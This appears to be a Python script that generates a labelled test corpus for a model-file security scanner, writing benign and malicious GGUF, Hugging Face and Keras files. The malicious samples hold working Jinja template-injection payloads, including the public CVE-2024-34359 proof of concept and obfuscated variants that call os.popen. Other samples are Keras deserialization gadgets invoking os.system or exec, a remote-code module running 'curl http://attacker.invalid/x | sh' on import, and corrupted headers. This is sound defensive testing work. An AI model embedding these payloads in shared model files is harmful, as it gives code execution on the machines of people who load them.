"""Real sample files for the LLM and Keras parts of `warden scan`.

GGUF files are written with the `gguf` package (llama.cpp's GGUFWriter), HDF5 files with
h5py, `.keras` archives with zipfile + h5py, the way Keras writes them. Chat templates are
those published with popular models (Llama 3, ChatML/Qwen, Mistral, Gemma, Phi-3, Zephyr)
and SSTI payloads of the kind used against llama-cpp-python (CVE-2024-34359).

Nothing here renders a template, unpickles or runs bytecode: the malicious lambdas are
`compile()`d or taken from a harmless function and marshalled, never executed.

Run: /work/main/.venv/bin/python tests/corpus/gen_llm.py OUT_DIR
"""

from __future__ import annotations

import codecs
import io
import json
import marshal
import pathlib
import struct
import sys
import zipfile

import h5py
import numpy as np
import gguf

# --------------------------------------------------------------------------------------
# Chat templates published with real models (transformers `tokenizer_config.json`).

LLAMA3 = (
    "{% set loop_messages = messages %}{% for message in loop_messages %}"
    "{% set content = '<|start_header_id|>' + message['role'] + '<|end_header_id|>\n\n'"
    "+ message['content'] | trim + '<|eot_id|>' %}{% if loop.index0 == 0 %}"
    "{% set content = bos_token + content %}{% endif %}{{ content }}{% endfor %}"
    "{% if add_generation_prompt %}{{ '<|start_header_id|>assistant<|end_header_id|>\n\n' }}{% endif %}"
)

CHATML = (
    "{% for message in messages %}{% if loop.first and messages[0]['role'] != 'system' %}"
    "{{ '<|im_start|>system\nYou are a helpful assistant.<|im_end|>\n' }}{% endif %}"
    "{{'<|im_start|>' + message['role'] + '\n' + message['content'] + '<|im_end|>' + '\n'}}"
    "{% endfor %}{% if add_generation_prompt %}{{ '<|im_start|>assistant\n' }}{% endif %}"
)

MISTRAL = (
    "{{ bos_token }}{% for message in messages %}"
    "{% if (message['role'] == 'user') != (loop.index0 % 2 == 0) %}"
    "{{ raise_exception('Conversation roles must alternate user/assistant/user/assistant/...') }}"
    "{% endif %}{% if message['role'] == 'user' %}{{ '[INST] ' + message['content'] + ' [/INST]' }}"
    "{% elif message['role'] == 'assistant' %}{{ message['content'] + eos_token}}"
    "{% else %}{{ raise_exception('Only user and assistant roles are supported!') }}{% endif %}{% endfor %}"
)

GEMMA = (
    "{{ bos_token }}{% if messages[0]['role'] == 'system' %}{{ raise_exception('System role not supported') }}"
    "{% endif %}{% for message in messages %}{% if (message['role'] == 'user') != (loop.index0 % 2 == 0) %}"
    "{{ raise_exception('Conversation roles must alternate user/assistant/user/assistant/...') }}{% endif %}"
    "{% if (message['role'] == 'assistant') %}{% set role = 'model' %}{% else %}{% set role = message['role'] %}"
    "{% endif %}{{ '<start_of_turn>' + role + '\n' + message['content'] | trim + '<end_of_turn>\n' }}"
    "{% endfor %}{% if add_generation_prompt %}{{'<start_of_turn>model\n'}}{% endif %}"
)

PHI3 = (
    "{% for message in messages %}{% if message['role'] == 'system' %}{{'<|system|>\n' + message['content'] + '<|end|>\n'}}"
    "{% elif message['role'] == 'user' %}{{'<|user|>\n' + message['content'] + '<|end|>\n'}}"
    "{% elif message['role'] == 'assistant' %}{{'<|assistant|>\n' + message['content'] + '<|end|>\n'}}"
    "{% endif %}{% endfor %}{% if add_generation_prompt %}{{ '<|assistant|>\n' }}{% else %}{{ eos_token }}{% endif %}"
)

ZEPHYR = (
    "{% for message in messages %}\n{% if message['role'] == 'user' %}\n{{ '<|user|>\n' + message['content'] + eos_token }}\n"
    "{% elif message['role'] == 'system' %}\n{{ '<|system|>\n' + message['content'] + eos_token }}\n"
    "{% elif message['role'] == 'assistant' %}\n{{ '<|assistant|>\n'  + message['content'] + eos_token }}\n"
    "{% endif %}\n{% if loop.last and add_generation_prompt %}\n{{ '<|assistant|>' }}\n{% endif %}\n{% endfor %}"
)

# Qwen2.5-style tool template: namespace-free, tojson, loop.index0 arithmetic.
QWEN_TOOLS = """{%- if tools %}
    {{- '<|im_start|>system\\n' }}
    {%- if messages[0]['role'] == 'system' %}
        {{- messages[0]['content'] }}
    {%- else %}
        {{- 'You are Qwen, created by Alibaba Cloud. You are a helpful assistant.' }}
    {%- endif %}
    {{- "\\n\\n# Tools\\n\\nYou may call one or more functions to assist with the user query.\\n\\n<tools>" }}
    {%- for tool in tools %}
        {{- "\\n" }}
        {{- tool | tojson }}
    {%- endfor %}
    {{- "\\n</tools>\\n\\nFor each function call, return a json object within <tool_call></tool_call> XML tags:\\n<tool_call>\\n{\\"name\\": <function-name>, \\"arguments\\": <args-json-object>}\\n</tool_call><|im_end|>\\n" }}
{%- else %}
    {%- if messages[0]['role'] == 'system' %}
        {{- '<|im_start|>system\\n' + messages[0]['content'] + '<|im_end|>\\n' }}
    {%- else %}
        {{- '<|im_start|>system\\nYou are Qwen, created by Alibaba Cloud. You are a helpful assistant.<|im_end|>\\n' }}
    {%- endif %}
{%- endif %}
{%- for message in messages %}
    {%- if (message.role == "user") or (message.role == "system" and not loop.first) or (message.role == "assistant" and not message.tool_calls) %}
        {{- '<|im_start|>' + message.role + '\\n' + message.content + '<|im_end|>' + '\\n' }}
    {%- elif message.role == "assistant" %}
        {{- '<|im_start|>' + message.role }}
        {%- if message.content %}
            {{- '\\n' + message.content }}
        {%- endif %}
        {%- for tool_call in message.tool_calls %}
            {%- if tool_call.function is defined %}
                {%- set tool_call = tool_call.function %}
            {%- endif %}
            {{- '\\n<tool_call>\\n{"name": "' }}
            {{- tool_call.name }}
            {{- '", "arguments": ' }}
            {{- tool_call.arguments | tojson }}
            {{- '}\\n</tool_call>' }}
        {%- endfor %}
        {{- '<|im_end|>\\n' }}
    {%- elif message.role == "tool" %}
        {%- if (loop.index0 == 0) or (messages[loop.index0 - 1].role != "tool") %}
            {{- '<|im_start|>user' }}
        {%- endif %}
        {{- '\\n<tool_response>\\n' }}
        {{- message.content }}
        {{- '\\n</tool_response>' }}
        {%- if loop.last or (messages[loop.index0 + 1].role != "tool") %}
            {{- '<|im_end|>\\n' }}
        {%- endif %}
    {%- endif %}
{%- endfor %}
{%- if add_generation_prompt %}
    {{- '<|im_start|>assistant\\n' }}
{%- endif %}
"""

# --------------------------------------------------------------------------------------
# Malicious templates (never rendered here).

SSTI_MRO = "{{ ''.__class__.__mro__[1].__subclasses__() }}"
# The public proof of concept of CVE-2024-34359 (llama-cpp-python < 0.2.72).
CVE_2024_34359 = (
    "{% for x in ().__class__.__base__.__subclasses__() %}{% if \"warning\" in x.__name__ %}"
    "{{x()._module.__builtins__['__import__']('os').popen(\"touch /tmp/retr0reg\")}}{%endif%}{% endfor %}"
)
LIPSUM = LLAMA3 + "{{ lipsum.__globals__['os'].popen('id').read() }}"
CYCLER = "{{ cycler.__init__.__globals__.os.popen('id').read() }}" + CHATML
# Hidden behind a branch that never runs in review, with string building.
CONCAT = LLAMA3 + (
    "{% if messages|length > 99 %}"
    "{{ ((lipsum|attr('_'*2 ~ 'glo' ~ 'bals' ~ '_'*2))['o' ~ 's']|attr('po' ~ 'pen'))('id')|attr('read')() }}"
    "{% endif %}"
)
HEX_ESCAPES = CHATML + (
    "{{ ((joiner|attr('\\x5f\\x5finit\\x5f\\x5f')|attr('\\x5f\\x5fglobals\\x5f\\x5f'))['\\x6f\\x73']"
    "|attr('\\x70\\x6f\\x70\\x65\\x6e'))('id')|attr('read')() }}"
)
SET_BLOCK = (
    "{% set g %}__globals__{% endset %}{% set o = 'o' ~ 's' %}"
    "{{ lipsum[g][o].popen('id').read() }}" + GEMMA
)
FORMAT_ESCAPE = PHI3 + "{{ ''|attr('format')('{0.__class__.__base__.__subclasses__}') }}"


# --------------------------------------------------------------------------------------
# GGUF


def write_gguf(path: pathlib.Path, templates, tensors=True, extra=None):
    w = gguf.GGUFWriter(str(path), "llama")
    w.add_name("tiny-llama")
    w.add_context_length(128)
    w.add_embedding_length(8)
    w.add_block_count(1)
    w.add_head_count(2)
    w.add_tokenizer_model("llama")
    w.add_token_list(["<unk>", "<s>", "</s>", "system", "os", "__init__"])
    w.add_token_scores([0.0] * 6)
    w.add_token_types([2, 3, 3, 1, 1, 1])
    w.add_bos_token_id(1)
    w.add_eos_token_id(2)
    if templates is not None:
        w.add_chat_template(templates)
    for k, v in (extra or {}).items():
        w.add_string(k, v)
    if tensors:
        w.add_tensor("token_embd.weight", np.arange(48, dtype=np.float32).reshape(6, 8))
        w.add_tensor("output_norm.weight", np.ones(8, dtype=np.float32))
    w.write_header_to_file()
    w.write_kv_data_to_file()
    w.write_tensors_to_file()
    w.close()


def gguf_bytes(kvs, tensors=(), data=b""):
    """A raw GGUF v3 file: kvs = [(key, type, payload bytes)], tensors = [(name, dims, type, offset)]."""
    out = bytearray(b"GGUF" + struct.pack("<IQQ", 3, len(tensors), len(kvs)))
    for key, ty, payload in kvs:
        kb = key.encode()
        out += struct.pack("<Q", len(kb)) + kb + struct.pack("<I", ty) + payload
    for name, dims, ty, off in tensors:
        nb = name.encode()
        out += struct.pack("<Q", len(nb)) + nb + struct.pack("<I", len(dims))
        out += b"".join(struct.pack("<Q", d) for d in dims)
        out += struct.pack("<IQ", ty, off)
    while len(out) % 32:
        out += b"\0"
    return bytes(out) + data


def gstr(s: str) -> bytes:
    b = s.encode()
    return struct.pack("<Q", len(b)) + b


def gen_gguf(root: pathlib.Path, entries: list):
    d = root / "llm" / "gguf"
    d.mkdir(parents=True, exist_ok=True)

    def add(name, expect, rules, note):
        entries.append({"path": f"llm/gguf/{name}", "expect": expect, "rules": rules, "note": note})

    write_gguf(d / "tiny-llama3.gguf", LLAMA3)
    add("tiny-llama3.gguf", "benign", [], "GGUFWriter: tiny F32 llama model with the Llama 3 chat template")
    write_gguf(d / "tiny-chatml-tools.gguf", [{"name": "default", "template": CHATML}, {"name": "tool_use", "template": QWEN_TOOLS}])
    add("tiny-chatml-tools.gguf", "benign", [], "ChatML default template plus a Qwen-style tool_use template (tokenizer.chat_template.tool_use)")
    for name, t in [("mistral", MISTRAL), ("gemma", GEMMA), ("phi3", PHI3), ("zephyr", ZEPHYR)]:
        write_gguf(d / f"tiny-{name}.gguf", t)
        add(f"tiny-{name}.gguf", "benign", [], f"GGUFWriter model with the published {name} chat template")
    write_gguf(d / "vocab-only.gguf", CHATML, tensors=False)
    add("vocab-only.gguf", "benign", [], "tokenizer-only GGUF (no tensors), like llama.cpp's ggml-vocab files")

    mal = [
        ("ssti-mro.gguf", SSTI_MRO, ["TPL001"], "chat template walks ''.__class__.__mro__[1].__subclasses__()"),
        ("cve-2024-34359.gguf", CVE_2024_34359, ["TPL001"], "public PoC of CVE-2024-34359 (llama-cpp-python SSTI via tokenizer.chat_template)"),
        ("lipsum.gguf", LIPSUM, ["TPL001", "TPL002"], "Llama 3 template with a lipsum.__globals__['os'].popen payload appended"),
        ("cycler.gguf", CYCLER, ["TPL001", "TPL002"], "cycler.__init__.__globals__.os.popen payload before a ChatML template"),
        ("concat.gguf", CONCAT, ["TPL001"], "payload hidden in a dead branch, names built with '_'*2 ~ 'glo' ~ 'bals' and |attr"),
        ("hex-escapes.gguf", HEX_ESCAPES, ["TPL001", "TPL005"], "payload spelled with \\x5f escapes through joiner|attr"),
        ("set-block.gguf", SET_BLOCK, ["TPL001"], "dunder name captured by {% set g %}__globals__{% endset %}"),
        ("format-escape.gguf", FORMAT_ESCAPE, ["TPL001"], "sandbox escape via |attr('format') (CVE-2025-27516 style)"),
    ]
    for name, t, rules, note in mal:
        write_gguf(d / name, t)
        add(name, "malicious", rules, note)
    write_gguf(d / "tool-use-payload.gguf", [{"name": "default", "template": LLAMA3}, {"name": "tool_use", "template": CVE_2024_34359}])
    add("tool-use-payload.gguf", "malicious", ["TPL001"], "benign default template, payload in tokenizer.chat_template.tool_use (llama-cpp-python reads every tokenizer.chat_template.*)")

    # Hostile headers, patched from a real file.
    base = (d / "tiny-llama3.gguf").read_bytes()
    r = gguf.GGUFReader(str(d / "tiny-llama3.gguf"))
    ti = r.tensors[1]
    off_field = ti.field.offset + sum(p.nbytes for p in ti.field.parts[:-1])
    bad = bytearray(base)
    bad[off_field:off_field + 8] = struct.pack("<Q", 1 << 40)
    (d / "hostile-offset.gguf").write_bytes(bytes(bad))
    add("hostile-offset.gguf", "malicious", ["GGUF001"], "tensor offset patched to 1 TiB: data outside the file (llama.cpp heap overflow class, TALOS-2024-1912..1916)")
    bad = bytearray(base)
    bad[16:24] = struct.pack("<Q", 1 << 60)
    (d / "hostile-kv-count.gguf").write_bytes(bytes(bad))
    add("hostile-kv-count.gguf", "malicious", ["GEN003"], "metadata kv count patched to 2^60: refused before allocation")
    (d / "truncated.gguf").write_bytes(base[: len(base) // 3])
    add("truncated.gguf", "malicious", ["GEN002"], "GGUF cut inside the metadata")

    # Duplicate keys: reviewers (first wins) and loaders (last wins) see different templates.
    dup = gguf_bytes(
        [
            ("general.architecture", 8, gstr("llama")),
            ("tokenizer.chat_template", 8, gstr(CHATML)),
            ("tokenizer.chat_template", 8, gstr(SSTI_MRO)),
        ],
        [("w", [8], 0, 0)],
        b"\0" * 32,
    )
    (d / "duplicate-template.gguf").write_bytes(dup)
    add("duplicate-template.gguf", "malicious", ["GGUF006", "TPL001"], "tokenizer.chat_template twice: benign first, SSTI second")
    overlap = gguf_bytes(
        [("general.architecture", 8, gstr("llama"))],
        [("a", [16], 0, 0), ("b", [16], 0, 32), ("c", [8], 0, 0)],
        b"\0" * 96,
    )
    (d / "overlap.gguf").write_bytes(overlap)
    add("overlap.gguf", "malicious", ["GGUF002"], "two tensors share bytes")
    zip_tail = io.BytesIO()
    with zipfile.ZipFile(zip_tail, "w") as z:
        z.writestr("payload.txt", "hello")
    (d / "polyglot.gguf").write_bytes(base + zip_tail.getvalue())
    add("polyglot.gguf", "malicious", ["GGUF008"], "zip archive appended after the tensor data")


# --------------------------------------------------------------------------------------
# Hugging Face model directory files


def gen_hf(root: pathlib.Path, entries: list):
    d = root / "llm" / "hf"
    d.mkdir(parents=True, exist_ok=True)

    def write(name, content, expect, rules, note):
        p = d / name
        p.parent.mkdir(parents=True, exist_ok=True)
        if isinstance(content, (dict, list)):
            p.write_text(json.dumps(content, indent=2))
        elif isinstance(content, bytes):
            p.write_bytes(content)
        else:
            p.write_text(content)
        entries.append({"path": f"llm/hf/{name}", "expect": expect, "rules": rules, "note": note})

    write("benign/config.json", {
        "architectures": ["LlamaForCausalLM"], "bos_token_id": 128000, "eos_token_id": 128009,
        "hidden_act": "silu", "hidden_size": 4096, "model_type": "llama", "rope_theta": 500000.0,
        "torch_dtype": "bfloat16", "transformers_version": "4.44.0", "vocab_size": 128256,
    }, "benign", [], "transformers config.json")
    write("benign/generation_config.json", {"bos_token_id": 128000, "do_sample": True, "eos_token_id": [128001, 128009], "temperature": 0.6, "top_p": 0.9}, "benign", [], "generation_config.json")
    write("benign/special_tokens_map.json", {"bos_token": {"content": "<|begin_of_text|>", "lstrip": False, "normalized": False, "rstrip": False, "single_word": False}, "eos_token": "<|eot_id|>"}, "benign", [], "special_tokens_map.json")
    write("benign/tokenizer_config.json", {
        "add_bos_token": True, "bos_token": "<|begin_of_text|>", "eos_token": "<|eot_id|>",
        "chat_template": LLAMA3, "model_max_length": 131072, "tokenizer_class": "PreTrainedTokenizerFast",
    }, "benign", [], "tokenizer_config.json with the Llama 3 chat template")
    write("benign-list/tokenizer_config.json", {
        "chat_template": [{"name": "default", "template": CHATML}, {"name": "tool_use", "template": QWEN_TOOLS}],
    }, "benign", [], "chat_template as a list of {name, template}")
    write("benign/tokenizer.json", {
        "version": "1.0", "truncation": None, "padding": None,
        "added_tokens": [{"id": 0, "content": "<unk>", "single_word": False, "lstrip": False, "rstrip": False, "normalized": False, "special": True}],
        "normalizer": {"type": "NFC"}, "pre_tokenizer": {"type": "ByteLevel", "add_prefix_space": False, "trim_offsets": True, "use_regex": True},
        "post_processor": None, "decoder": {"type": "ByteLevel"},
        "model": {"type": "BPE", "dropout": None, "unk_token": None, "vocab": {"<unk>": 0, "os": 1, "system": 2, "__init__": 3, "eval": 4, "import": 5}, "merges": ["o s", "s y"]},
    }, "benign", [], "tokenizers tokenizer.json whose vocabulary contains 'os', 'system', '__init__'")
    write("benign/vocab.json", {"<s>": 0, "__class__": 1, "exec": 2}, "benign", [], "vocab.json with code-looking tokens")
    write("benign/merges.txt", "#version: 0.2\nĠ t\nĠ a\ni mport\n", "benign", [], "BPE merges.txt")
    write("benign/vocab.txt", "[PAD]\n[UNK]\n[CLS]\n[SEP]\nthe\nimport\n", "benign", [], "BERT vocab.txt (starts with '[')")
    write("benign/README.md", "---\nlicense: llama3\n---\n# Tiny model\n\n```python\nfrom transformers import AutoModelForCausalLM\nimport torch\nmodel = AutoModelForCausalLM.from_pretrained('x', torch_dtype=torch.bfloat16)\n```\n\nSet a system prompt; the os does not matter.\n", "benign", [], "model card with a Python snippet in a code fence")
    write("benign/chat_template.jinja", QWEN_TOOLS, "benign", [], "chat_template.jinja as saved by recent transformers")
    write("benign/trainer_state.json", '{"best_metric": NaN, "log_history": [{"loss": Infinity, "step": 1}]}', "benign", [], "trainer_state.json with Python's NaN/Infinity")

    write("evil-tokenizer/tokenizer_config.json", {"chat_template": CVE_2024_34359, "eos_token": "</s>"}, "malicious", ["TPL001"], "tokenizer_config.json whose chat_template is the CVE-2024-34359 PoC")
    write("evil-list/tokenizer_config.json", {"chat_template": [{"name": "default", "template": CHATML}, {"name": "rag", "template": CONCAT}]}, "malicious", ["TPL001"], "payload in a named template of the list form")
    write("evil-jinja/chat_template.jinja", HEX_ESCAPES, "malicious", ["TPL001", "TPL005"], "chat_template.jinja with an escape-encoded payload")
    write("evil-jinja/chat_template.json", {"chat_template": SET_BLOCK}, "malicious", ["TPL001"], "processor chat_template.json with a {% set %}-block payload")
    write("remote-code/modeling_evil.py", (
        "# coding=utf-8\n\"\"\"Tiny model (trust_remote_code).\"\"\"\nimport os\nimport torch\nfrom torch import nn\n\n"
        "os.system('curl -s http://attacker.invalid/x | sh')\n\n\nclass EvilModel(nn.Module):\n    def forward(self, x):\n        return x\n"
    ), "malicious", ["TXT001", "TXT002"], "trust_remote_code module that runs a shell command on import")
    write("remote-code/config.json", {"architectures": ["EvilModel"], "auto_map": {"AutoModel": "modeling_evil.EvilModel"}, "model_type": "evil"}, "benign", [], "config.json naming remote code via auto_map (info only)")


# --------------------------------------------------------------------------------------
# Keras


def lambda_b64(code) -> str:
    """Keras 2 `func_dump`: base64 (with newlines) of marshal.dumps(code)."""
    return codecs.encode(marshal.dumps(code), "base64").decode("ascii")


HARMLESS_CODE = (lambda x: x).__code__
# Compiled, never executed.
EVIL_CODE = compile("lambda x: __import__('os').system('id') or x", "<lambda>", "eval").co_consts[0]


def keras2_config(extra_layers=()):
    layers = [
        {"class_name": "InputLayer", "config": {"batch_input_shape": [None, 4], "dtype": "float32", "sparse": False, "ragged": False, "name": "input_1"}},
        {"class_name": "Dense", "config": {"name": "dense", "trainable": True, "dtype": "float32", "units": 2, "activation": "relu", "use_bias": True,
                                            "kernel_initializer": {"class_name": "GlorotUniform", "config": {"seed": None}},
                                            "bias_initializer": {"class_name": "Zeros", "config": {}}}},
    ]
    layers += list(extra_layers)
    return {"class_name": "Sequential", "config": {"name": "sequential", "layers": layers}, "keras_version": "2.13.1", "backend": "tensorflow"}


def keras2_lambda(code):
    return {"class_name": "Lambda", "config": {"name": "lambda", "trainable": True, "dtype": "float32",
                                               "function": [lambda_b64(code), None, None], "function_type": "lambda",
                                               "module": "__main__", "output_shape": None, "output_shape_type": "raw",
                                               "output_shape_module": None, "arguments": {}}}


def keras3_layer(cls, config, module="keras.layers"):
    return {"module": module, "class_name": cls, "config": config, "registered_name": None}


def keras3_config(extra_layers=(), activation="relu"):
    dtype = {"module": "keras", "class_name": "DTypePolicy", "config": {"name": "float32"}, "registered_name": None}
    layers = [
        keras3_layer("InputLayer", {"batch_shape": [None, 4], "dtype": "float32", "sparse": False, "name": "input_layer"}),
        {**keras3_layer("Dense", {"name": "dense", "trainable": True, "dtype": dtype, "units": 2, "activation": activation, "use_bias": True,
                                  "kernel_initializer": keras3_layer("GlorotUniform", {"seed": None}, "keras.initializers"),
                                  "bias_initializer": keras3_layer("Zeros", {}, "keras.initializers"),
                                  "kernel_regularizer": None, "bias_regularizer": None, "kernel_constraint": None, "bias_constraint": None}),
         "build_config": {"input_shape": [None, 4]}},
    ]
    layers += list(extra_layers)
    return {
        "module": "keras", "class_name": "Sequential",
        "config": {"name": "sequential", "trainable": True, "dtype": dtype, "layers": layers, "build_input_shape": [None, 4]},
        "registered_name": None, "build_config": {"input_shape": [None, 4]},
        "compile_config": {
            "optimizer": keras3_layer("Adam", {"name": "adam", "learning_rate": 0.001, "beta_1": 0.9, "beta_2": 0.999, "epsilon": 1e-07, "amsgrad": False}, "keras.optimizers"),
            "loss": keras3_layer("MeanSquaredError", {"name": "mean_squared_error", "reduction": "sum_over_batch_size"}, "keras.losses"),
            "loss_weights": None,
            "metrics": [{"module": "builtins", "class_name": "function", "config": "mae", "registered_name": "function"}],
            "weighted_metrics": None, "run_eagerly": False, "steps_per_execution": 1, "jit_compile": False,
        },
    }


def weights_h5() -> bytes:
    """model.weights.h5 as Keras 3 lays it out: layers/<name>/vars/<i>."""
    buf = io.BytesIO()
    with h5py.File(buf, "w") as f:
        f.create_group("layers/input_layer/vars")
        v = f.create_group("layers/dense/vars")
        v["0"] = np.zeros((4, 2), "float32")
        v["1"] = np.zeros((2,), "float32")
        f.create_group("optimizer/vars")
        f.create_group("vars")
    return buf.getvalue()


def write_keras(path: pathlib.Path, config: dict):
    with zipfile.ZipFile(path, "w") as z:
        z.writestr("metadata.json", json.dumps({"keras_version": "3.6.0", "date_saved": "2024-10-01@12:00:00"}))
        z.writestr("config.json", json.dumps(config))
        z.writestr("model.weights.h5", weights_h5())


def write_h5(path: pathlib.Path, config: dict, fixed=False, training=None, **kw):
    """Legacy Keras .h5: root attributes as `hdf5_format.save_model_to_hdf5` writes them."""
    with h5py.File(path, "w", **kw) as f:
        f.attrs["backend"] = "tensorflow"
        f.attrs["keras_version"] = "2.13.1"
        blob = json.dumps(config).encode("utf8")
        # h5py 3 stores bytes as a variable-length string (global heap); h5py 2 stored a
        # fixed-length string inside the attribute message.
        f.attrs["model_config"] = np.bytes_(blob) if fixed else blob
        if training is not None:
            f.attrs["training_config"] = json.dumps(training).encode("utf8")
        g = f.create_group("model_weights")
        g.attrs["layer_names"] = np.array([b"dense"])
        d = g.create_group("dense/dense")
        d["kernel:0"] = np.zeros((4, 2), "float32")
        d["bias:0"] = np.zeros((2,), "float32")


def gen_keras(root: pathlib.Path, entries: list):
    dk = root / "llm" / "keras"
    dh = root / "llm" / "h5"
    dk.mkdir(parents=True, exist_ok=True)
    dh.mkdir(parents=True, exist_ok=True)

    def add(path, expect, rules, note):
        entries.append({"path": path, "expect": expect, "rules": rules, "note": note})

    write_keras(dk / "benign.keras", keras3_config())
    add("llm/keras/benign.keras", "benign", [], "Keras 3 archive: config.json, metadata.json, model.weights.h5 (h5py)")
    lam = keras3_layer("Lambda", {"name": "lambda", "trainable": True,
                                   "function": {"class_name": "__lambda__", "config": {"code": lambda_b64(HARMLESS_CODE), "defaults": None, "closure": None}},
                                   "output_shape": None, "mask": None, "arguments": {}})
    write_keras(dk / "lambda.keras", keras3_config([lam]))
    add("llm/keras/lambda.keras", "malicious", ["KERAS001"], "Keras 3 Lambda with marshalled bytecode (CVE-2024-3660 class; harmless identity lambda)")
    lam_evil = keras3_layer("Lambda", {"name": "lambda", "function": {"class_name": "__lambda__", "config": {"value": [lambda_b64(EVIL_CODE), None, None]}}})
    unsafe = {"module": "keras.config", "class_name": "function", "config": "enable_unsafe_deserialization", "registered_name": None}
    write_keras(dk / "unsafe-then-lambda.keras", keras3_config([keras3_layer("Dense", {"name": "d2", "units": 1, "activation": unsafe}), lam_evil]))
    add("llm/keras/unsafe-then-lambda.keras", "malicious", ["KERAS005", "KERAS001"], "enable_unsafe_deserialization gadget then a Lambda calling os.system (CVE-2025-9906 style)")
    os_fn = {"module": "os", "class_name": "function", "config": "system", "registered_name": "function"}
    write_keras(dk / "module-os.keras", keras3_config(activation=os_fn))
    add("llm/keras/module-os.keras", "malicious", ["KERAS003"], "activation resolved as os.system through \"module\": \"os\" (CVE-2025-1550 safe_mode bypass class)")
    exec_fn = {"module": "builtins", "class_name": "function", "config": "exec", "registered_name": "function"}
    write_keras(dk / "builtins-exec.keras", keras3_config(activation=exec_fn))
    add("llm/keras/builtins-exec.keras", "malicious", ["KERAS003"], "builtins.exec as a layer activation")
    get_file = {"module": "keras.utils", "class_name": "function", "config": "get_file", "registered_name": "get_file"}
    write_keras(dk / "get-file.keras", keras3_config([keras3_layer("Dense", {"name": "d2", "units": 1, "activation": get_file})]))
    add("llm/keras/get-file.keras", "malicious", ["KERAS005"], "keras.utils.get_file gadget inside the Keras namespace (CVE-2025-8747)")
    custom = {"module": "my_layers", "class_name": "Attention", "config": {"name": "att"}, "registered_name": "MyLayers>Attention"}
    write_keras(dk / "custom-layer.keras", keras3_config([custom]))
    add("llm/keras/custom-layer.keras", "malicious", ["KERAS003", "KERAS004"], "custom layer from an unknown module: code must be supplied at load time")
    (dk / "config.json").write_text(json.dumps(keras3_config([lam])))
    add("llm/keras/config.json", "malicious", ["KERAS001"], "bare Keras 3 config.json with a Lambda")

    write_h5(dh / "benign.h5", keras2_config(), training={"loss": "mse", "metrics": ["mae"], "optimizer_config": {"class_name": "Adam", "config": {"learning_rate": 0.001}}})
    add("llm/h5/benign.h5", "benign", [], "legacy Keras 2 .h5 (h5py 3: model_config as a variable-length string in the global heap)")
    write_h5(dh / "benign-fixed.h5", keras2_config(), fixed=True)
    add("llm/h5/benign-fixed.h5", "benign", [], "legacy .h5 with model_config as a fixed-length string (h5py 2 layout)")
    write_h5(dh / "benign-latest.h5", keras2_config(), libver="latest")
    add("llm/h5/benign-latest.h5", "benign", [], "legacy .h5 written with libver='latest' (superblock v3, object header v2)")
    write_h5(dh / "lambda.h5", keras2_config([keras2_lambda(HARMLESS_CODE)]))
    add("llm/h5/lambda.h5", "malicious", ["KERAS001"], "Keras 2 Lambda layer: marshal.dumps((lambda x: x).__code__) in base64 (CVE-2024-3660)")
    write_h5(dh / "lambda-os-fixed-userblock.h5", keras2_config([keras2_lambda(EVIL_CODE)]), fixed=True, userblock_size=512)
    add("llm/h5/lambda-os-fixed-userblock.h5", "malicious", ["KERAS001"], "Lambda whose bytecode calls os.system, fixed-length attribute, 512-byte user block")
    write_h5(dh / "lambda-latest.h5", keras2_config([keras2_lambda(EVIL_CODE)]), libver="latest")
    add("llm/h5/lambda-latest.h5", "malicious", ["KERAS001"], "Lambda in a libver='latest' file")
    write_h5(dh / "module-os.h5", keras3_config(activation=os_fn))
    add("llm/h5/module-os.h5", "malicious", ["KERAS003"], "Keras 3 legacy-h5 config whose activation is \"module\": \"os\" / system")
    write_h5(dh / "training-subprocess.h5", keras2_config(), training={"loss": {"module": "subprocess", "class_name": "function", "config": "check_output", "registered_name": "function"}, "metrics": []})
    add("llm/h5/training-subprocess.h5", "malicious", ["KERAS003"], "training_config whose loss is subprocess.check_output")
    named = {"class_name": "Lambda", "config": {"name": "l", "function": "system", "function_type": "function", "module": "os"}}
    write_h5(dh / "lambda-named-os.h5", keras2_config([named]))
    add("llm/h5/lambda-named-os.h5", "malicious", ["KERAS003"], "Keras 2 Lambda naming the function os.system")
    with h5py.File(dh / "dense-lambda.h5", "w", libver="latest") as f:
        # More than 8 attributes with libver='latest': dense storage in a fractal heap,
        # which the structured reader does not walk (byte-scan fallback).
        for i in range(20):
            f.attrs[f"meta_{i}"] = i
        f.attrs["keras_version"] = "2.13.1"
        f.attrs["model_config"] = json.dumps(keras2_config([keras2_lambda(EVIL_CODE)])).encode("utf8")
    add("llm/h5/dense-lambda.h5", "malicious", ["KERAS001", "HDF003"], "model_config in dense attribute storage (fractal heap): found by the bounded byte scan")
    plain = dh / "weights-only.h5"
    with h5py.File(plain, "w") as f:
        f.attrs["layer_names"] = np.array([b"dense"])
        f.attrs["backend"] = "tensorflow"
        f["dense/kernel:0"] = np.zeros((4, 2), "float32")
    add("llm/h5/weights-only.h5", "benign", [], "save_weights() .h5 without a model config")


def generate(out: pathlib.Path) -> list[dict]:
    out = pathlib.Path(out)
    entries: list[dict] = []
    gen_gguf(out, entries)
    gen_hf(out, entries)
    gen_keras(out, entries)
    return entries


if __name__ == "__main__":
    target = pathlib.Path(sys.argv[1] if len(sys.argv) > 1 else "corpus-out")
    result = generate(target)
    (target / "llm" / "manifest.json").write_text(json.dumps(result, indent=2))
    print(f"{len(result)} samples under {target / 'llm'}")
